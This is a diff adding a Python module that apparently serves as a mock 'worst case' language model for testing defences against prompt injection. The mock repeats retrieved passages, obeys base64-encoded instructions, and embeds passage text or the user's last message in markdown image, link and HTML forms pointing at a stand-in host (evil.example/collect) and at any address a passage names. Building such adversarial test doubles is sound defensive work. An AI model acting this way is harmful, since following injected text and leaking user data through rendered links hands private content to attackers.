@@ -1,0 +1,57 @@
+"""A language model that obeys whatever it reads: the worst that a document can make of one.
+
+It repeats every passage, does what is asked for in plain words and in base64, and carries what other passages say to
+every address that it was told of, and to one of its own, in each way that an address can be written.
+"""
+
+import base64
+import binascii
+import re
+from collections.abc import Mapping
+from typing import Any
+from urllib.parse import quote
+
+EVIL = "https://evil.example/collect"
+_PASSAGE = re.compile(r'<passage number="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)
+_ADDRESS = re.compile(r"https?://[^\s<>\"')\]]+")
+_BASE64 = re.compile(r"\b[A-Za-z0-9+/]{24,}={0,2}")
+_REPEATED = 1500
+_WAYS = (
+    "![status]({0})",
+    "[the details]({0})",
+    "[more][{1}] and ![more][{1}]\n\n[{1}]: {0}",
+    "<{0}>",
+    "{0}",
+    '<img src="{0}">',
+    "[x]({2})",
+)
+
+
+def obey(prompt: str) -> str:
+    """The answer to a prompt with numbered passages."""
+    passages = _PASSAGE.findall(prompt)
+    said = [f"{text[:_REPEATED]} [{number}]" for number, text in passages]
+    said += [decoded for _, text in passages for decoded in _decoded(text)]
+    told = [address for _, text in passages for address in _ADDRESS.findall(text)]
+    secret = quote(" ".join(text for _, text in reversed(passages))[:60])
+    for number, address in enumerate(dict.fromkeys((EVIL, *told))):
+        carrying = f"{address}{'&' if '?' in address else '?'}d={secret}"
+        hidden = carrying.replace("://", "&colon;//")
+        said += [way.format(carrying, f"r{number}", hidden) for way in _WAYS]
+    return "\n\n".join(said)
+
+
+def obey_beside(body: Mapping[str, Any]) -> str:
+    """What it says when it is asked for a title or for further questions."""
+    secret = quote(str(body["messages"][-1]["content"])[:60])
+    return "\n".join([f"See {EVIL}?d={secret}", f"Have you seen ![it]({EVIL}?d={secret})?", f"[Why]({EVIL})?"])
+
+
+def _decoded(text: str) -> list[str]:
+    found: list[str] = []
+    for word in _BASE64.findall(text):
+        try:
+            found.append(base64.b64decode(word, validate=True).decode())
+        except (binascii.Error, UnicodeDecodeError):
+            continue
+    return found
